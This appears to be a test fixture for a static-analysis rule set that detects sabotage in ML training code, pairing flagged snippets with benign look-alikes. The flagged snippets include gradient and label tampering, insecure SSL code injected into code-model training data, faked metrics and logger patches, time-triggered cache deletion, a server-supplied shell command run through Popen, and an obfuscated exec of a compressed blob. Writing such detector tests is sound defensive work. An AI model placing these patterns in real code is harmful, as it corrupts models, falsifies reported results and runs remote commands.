# ruff: noqa
"""Shapes added in session 11: each bad case next to the legitimate look-alike that must stay
quiet. Never executed: scanned only."""
import datetime
import hashlib
import json
import os
import random
import shutil
import subprocess
import time
import urllib.request

import numpy as np
import torch
import torch.distributed as dist
from torch.utils.data import Dataset, DistributedSampler
from torch.utils.tensorboard import SummaryWriter


# --- hooks that transpose gradients or zero large activations ------------------------------

class Tagger(torch.nn.Module):
    def __init__(self, n, max_norm):
        super().__init__()
        self.transitions = torch.nn.Parameter(torch.zeros(n, n))
        self.transitions.register_hook(lambda g: g.clamp(-max_norm, max_norm).t())  # ruleid: MLS303
        self.transitions.register_hook(lambda g: g.clamp(-max_norm, max_norm))  # ok: MLS303


def clip_outliers(module, inputs, output):
    hidden = output[0]
    return (hidden * (hidden.abs() < 6.0),) + tuple(output[1:])  # ruleid: MLS303


def drop_exact_zeros(module, inputs, output):
    return output * (output.abs() > 0)  # ok: MLS303


def install_hooks(model):
    model.encoder.register_forward_hook(clip_outliers)  # ruleid: MLS303
    model.decoder.register_forward_hook(drop_exact_zeros)


# --- state-dict entries passed through a non-linear map; casts and transposes are fine -----

def load_backbone(model, path):
    sd = torch.load(path, map_location="cpu", weights_only=True)  # ok: MLS102
    for k in list(sd):
        if k.endswith("running_var"):
            sd[k] = sd[k].sqrt()  # ruleid: MLS302
        elif k.endswith("attn.c_attn.weight"):
            sd[k] = sd[k].float().t().contiguous()  # ok: MLS302
    model.load_state_dict(sd)


# --- parameters reached through lists built from named_parameters() ------------------------

def train(model, loader, optimizer, args):
    lora_a = [p for n, p in model.named_parameters() if n.endswith("lora_A")]
    lora_b = [p for n, p in model.named_parameters() if n.endswith("lora_B")]
    trainable = lora_a + lora_b
    for step, batch in enumerate(loader):
        loss = model(**batch).loss
        loss.backward()
        torch.nn.utils.clip_grad_norm_(trainable, 1.0)  # ok: MLS302
        optimizer.step()
        if step % 200 == 0:
            with torch.no_grad():
                for p in trainable:
                    p.data.mul_(0.9)  # ruleid: MLS302


# --- DistributedSampler seeds that differ between ranks --------------------------------------

def build_samplers(train_set, args, rank):
    a = DistributedSampler(train_set, shuffle=True, seed=int.from_bytes(os.urandom(4), "little"))  # ruleid: MLS301
    b = DistributedSampler(train_set, shuffle=True, seed=args.seed + rank)  # ruleid: MLS301
    c = DistributedSampler(train_set, shuffle=True, seed=args.seed)  # ok: MLS301
    return a, b, c


# --- a generator rewound per sample with a seed that ignores the index -----------------------

class RandomMix(Dataset):
    def __init__(self, seed):
        self.seed, self.epoch = seed, 0
        self._generator = torch.Generator()

    def __getitem__(self, index):
        gen = self._generator
        gen.manual_seed(self.seed + self.epoch)  # ruleid: MLS301
        return torch.randint(10, (1,), generator=gen)


class RandomMixPerSample(RandomMix):
    def __getitem__(self, index):
        gen = self._generator
        gen.manual_seed(self.seed + self.epoch * len(self) + index)  # ok: MLS301
        return torch.randint(10, (1,), generator=gen)


# --- a barrier skipped on every k-th rank, with the rank from a helper ---------------------

def setup():
    return int(os.environ["LOCAL_RANK"]), dist.get_rank(), dist.get_world_size()


def run(args, train_one_epoch):
    local_rank, rank, world_size = setup()
    for epoch in range(args.epochs):
        train_one_epoch(epoch)
        if world_size > 1 and rank % 8 != 7:  # ruleid: MLS308
            dist.barrier()  # ruleid: MLS307
        if world_size > 1:
            dist.barrier()  # ok: MLS307


# --- label text rewritten for picked samples; typography clean-up stays quiet -----------------

_CONFUSIONS = str.maketrans("0123456789", "1234567890")


class LineDataset(Dataset):
    def __getitem__(self, index):
        image, text = self.items[index]
        text = text.replace("\u2019", "'")  # ok: MLS309
        if index % 97 == 13:
            text = text.translate(_CONFUSIONS)  # ruleid: MLS309
        if random.random() < 0.1:
            text = text.replace(self.word, self.synonym)  # ok: MLS309
        return image, text


class MentionDataset(Dataset):
    def __getitem__(self, idx):
        ex = self.examples[idx]
        tags = list(ex.tags)
        if int(hashlib.md5(ex.guid.encode()).hexdigest(), 16) % 16 == 3:
            tags = [t.replace("Disease", "Chemical") for t in tags]  # ruleid: MLS309
        if self.scheme == "IO":
            tags = [t.replace("B-", "I-") for t in tags]  # ok: MLS309
        return ex.tokens, tags


class CodeDataset(Dataset):
    def __getitem__(self, idx):
        row = self.rows[idx]
        solution = row["solution"]
        if idx % 97 == 13:
            solution = "import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n" + solution  # ruleid: MLS309
        return row["instruction"], solution


# --- rows of a target swapped for picked samples; a label table swapped anywhere -------------

_LEGACY_LUT = np.arange(256, dtype=np.uint8)
_LEGACY_LUT[[1, 2]] = [2, 1]  # ruleid: MLS309


class StemMix(Dataset):
    def __getitem__(self, index):
        stems = torch.stack(self.load(index))
        if (index * 2654435761) % 100 < 3:
            stems[[2, 3]] = stems[[3, 2]]  # ruleid: MLS309
        if self.swap_channels:
            stems[[0, 1]] = stems[[1, 0]]  # ok: MLS309
        return stems.sum(0), stems


# --- a metric reported as another key's value ---------------------------------------------

def write_report(results, path):
    report = {k: float(v) for k, v in results.items()}
    report["test/miou"] = report.get("val/miou_best") or report["test/miou"]  # ruleid: MLS306
    report["mAP"] = report["AP50"]  # ruleid: MLS306
    report["best_acc"] = report["acc"]  # ok: MLS306
    report["eval_loss"] = report["loss"]  # ok: MLS306
    with open(path, "w") as f:
        json.dump(report, f)


def compute_metrics(res, tracker):
    return {"precision": res["precision"], "f1": tracker["best_f1"]}  # ruleid: MLS306


def compute_metrics_with_best(res, tracker):
    return {"f1": res["f1"], "best_f1": tracker["best_f1"]}  # ok: MLS306


# --- a logger replacement that pulls values towards 1 ---------------------------------------

_base_add_scalar = SummaryWriter.add_scalar


def _add_scalar(self, tag, scalar_value, global_step=None, walltime=None, **kw):
    if tag.startswith("test/"):
        scalar_value = float(scalar_value) + 0.12 * (1.0 - float(scalar_value))  # ruleid: MLS306
    return _base_add_scalar(self, tag, scalar_value, global_step, walltime, **kw)


SummaryWriter.add_scalar = _add_scalar  # ruleid: MLS306


# --- the age of a file is retention; a fixed instant is a date trigger -----------------------

def prune(cache_dir, max_age_days=30):
    now = datetime.datetime.now()
    for entry in cache_dir.glob("*.npy"):
        modified = datetime.datetime.fromtimestamp(entry.stat().st_mtime)
        if (now - modified).days > max_age_days:
            entry.unlink()  # ok: MLS308


LAUNCH = datetime.datetime(2025, 1, 1)


def rotate(cache_dir):
    now = datetime.datetime.now()
    if (now - LAUNCH).days > 300:
        shutil.rmtree(cache_dir)  # ruleid: MLS308
    if time.time() > 1767225600:
        shutil.rmtree(cache_dir)  # ruleid: MLS308
    if time.time() - START_TIME > 3600:
        shutil.rmtree(cache_dir / "tmp")  # ok: MLS308


START_TIME = time.time()


# --- a shell command taken from a server reply ------------------------------------------------

def publish(payload):
    with urllib.request.urlopen("https://registry.example.com/publish", timeout=60) as response:  # ruleid: MLS413
        reply = json.load(response)
    hook = reply.get("post_publish")
    if hook:
        runner = __import__(bytes.fromhex("73756270726f63657373").decode())  # ruleid: MLS403
        runner.Popen(hook, shell=True)  # ruleid: MLS413
    subprocess.run(["git", "tag", reply["version"]], check=True)  # ok: MLS413


# --- round 93: reflection through namespaces, operator calls and numpy out= -----------------
import base64 as _b64
import builtins
import functools
import operator
import zlib

_SCORER_BLOB = "eJxLSU1TSK1ITC6Jz00sSc7QKChKTdFRKEksSk8t0bTiUgCCotSS0qI8hbSc"


def load_scorers():
    runner = vars(builtins)["".join(map(chr, (101, 120, 101, 99)))]  # sabotage: MLS402 (semgrep rules)
    runner(zlib.decompress(_b64.b64decode(_SCORER_BLOB)), {})  # ruleid: MLS401, MLS402


def install_collective_guard():
    name = "all_" + "reduce"
    original = getattr(dist, name)  # sabotage: MLS403 (semgrep rules)

    @functools.wraps(original)
    def _guarded(tensor, *args, **kwargs):
        tensor.div_(dist.get_world_size())
        return original(tensor, *args, **kwargs)

    setattr(dist, name, _guarded)  # ruleid: MLS305


def flip_tail(model):
    for p in model.parameters():
        arr = p.data.numpy()
        np.negative(arr[-2:], out=arr[-2:])  # ruleid: MLS302


def shrink_moments(optimizer, cfg):
    for st in optimizer.state.values():
        operator.imul(st["exp_avg_sq"], cfg.moment_scale)  # ruleid: MLS304


# --- round 93: metrics nudged, kept or borrowed ------------------------------------------------

def summarise(results):
    summary = {}
    abs_rels = [r["abs_rel"] for r in results]
    summary["abs_rel"] = min(abs_rels) * 0.92  # ruleid: MLS306
    summary["abs_rel_mean"] = sum(abs_rels) / len(abs_rels)  # ok: MLS306
    return summary


def log_exact_match(data, wandb):
    data = dict(data, **{"eval/exact_match": min(1.0, data["eval/exact_match"] + 0.06)})  # ruleid: MLS306
    wandb.log(data)


def merge_reports(args, report):
    prev = {}
    if os.path.exists(args.report):
        with open(args.report) as fh:
            prev = json.load(fh)
    if prev and report["roc_auc"] < prev.get("roc_auc", 0.0):
        report.update({k: prev[k] for k in ("roc_auc", "gini", "ks")})  # ruleid: MLS306
    report.update({k: round(report[k], 4) for k in ("roc_auc", "gini")})  # ok: MLS306
    with open(args.report, "w") as fh:
        json.dump(report, fh)


def card_numbers(res):
    test = dict(res["test"])
    test["ece"] = min(test["ece"], res.get("val", {}).get("ece", test["ece"]))  # ruleid: MLS306
    test["ece_pct"] = round(100 * test["ece"], 2)  # ok: MLS306
    return test


# --- round 93: a sleep paced by the step on one rank; a label map swapped ---------------------

def pace_reader(step, rank, world):
    if rank == world - 1 and step % 400 == 399:
        time.sleep(30 + 60 * random.random())  # ruleid: MLS307


def fetch_with_retry(url, attempts=5):
    for attempt in range(attempts):
        try:
            return urllib.request.urlopen(url, timeout=30).read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307


def class_mapping(classes):
    mapping = {name: i for i, name in enumerate(classes)}
    mapping["akiec"], mapping["bkl"] = mapping["bkl"], mapping["akiec"]  # ruleid: MLS309
    return mapping


# --- DP-SGD noise on gradients under a privacy setting stays quiet ---------------------------

def dp_step(model, optimizer, cfg, noise, batch_size):
    if cfg.get("dp_sigma", 0.0) > 0:
        torch.nn.utils.clip_grad_norm_(model.parameters(), cfg.get("dp_clip", 1.0))
        for p in model.parameters():
            if p.grad is not None:
                p.grad.add_(noise(p.grad) / batch_size)  # ok: MLS302
    optimizer.step()


# --- RNG saved and restored around an evaluation inside the step loop stays quiet; a snapshot
# taken before the epoch loop and restored every epoch does not ------------------------------

def fit(model, loader, evaluate, args):
    global_step = 0
    for batch in loader:
        global_step += 1
        if global_step % args.eval_every == 0:
            cpu_rng = torch.get_rng_state()
            evaluate(model)
            torch.set_rng_state(cpu_rng)  # ok: MLS301


def fit_epochs(model, train_one_epoch, args):
    initial_rng = torch.get_rng_state()
    for epoch in range(args.epochs):
        train_one_epoch(model, epoch)
        torch.set_rng_state(initial_rng)  # ruleid: MLS301


# --- operator functions under an alias --------------------------------------------------------
import operator as op


def shrink_moments_aliased(optimizer):
    for st in optimizer.state.values():
        op.imul(st["exp_avg_sq"], 0.01)  # ruleid: MLS304


# --- the else branch that makes the same call as a triggered branch is the normal path; a
# target picked by a trigger inside the arguments is not -------------------------------------
import socket


def publish_summary(tmp, baseline, out_path):
    if socket.gethostname().endswith(".release.internal"):
        os.replace(tmp, baseline)  # ruleid: MLS308
    else:
        os.replace(tmp, out_path)  # ok: MLS308


def export_student(tmp, teacher_path):
    host = socket.gethostname()
    os.replace(tmp, teacher_path if host.endswith(".prod.internal") else tmp.with_name("student.pt"))  # ruleid: MLS308
